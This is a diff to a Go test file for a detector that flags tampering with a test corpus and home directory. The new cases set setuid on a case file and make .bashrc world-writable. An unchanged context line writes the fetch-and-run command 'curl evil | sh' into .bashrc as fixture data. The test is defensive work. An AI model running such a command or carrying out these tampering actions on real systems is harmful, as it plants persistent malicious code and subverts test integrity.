@@ -1,6 +1,7 @@
 package runner
 
 import (
+	"io/fs"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -62,6 +63,8 @@ func TestUntouched(t *testing.T) {
 					later := time.Now().Add(time.Hour)
 					os.Chtimes("corpus/esc/a.txtar", later, later)
 				}, nil},
+				{"made its own case unreadable", func() { os.Chmod("corpus/esc/a.txtar", 0o600) }, []string{"corpus/esc/a.txtar"}},
+				{"made it setuid", func() { os.Chmod("corpus/esc/a.txtar", 0o600|fs.ModeSetuid) }, []string{"corpus/esc/a.txtar"}},
 				{"appended to its own case", func() { write("corpus/esc/a.txtar", "a planted") }, []string{"corpus/esc/a.txtar"}},
 				{"planted a case", func() { write("corpus/esc/planted.txtar", "x") }, []string{"corpus/esc/planted.txtar"}},
 				{"planted a project", func() { write("corpus/newproj/c.txtar", "x") }, []string{"corpus/newproj/c.txtar"}},
@@ -72,6 +75,7 @@ func TestUntouched(t *testing.T) {
 				}, disguised},
 				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
 				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
+				{"opened .bashrc to others", func() { os.Chmod("home/.bashrc", 0o666) }, []string{filepath.Join(home, ".bashrc")}},
 				{"touched .bashrc, same content", func() {
 					later := time.Now().Add(2 * time.Hour)
 					os.Chtimes("home/.bashrc", later, later)
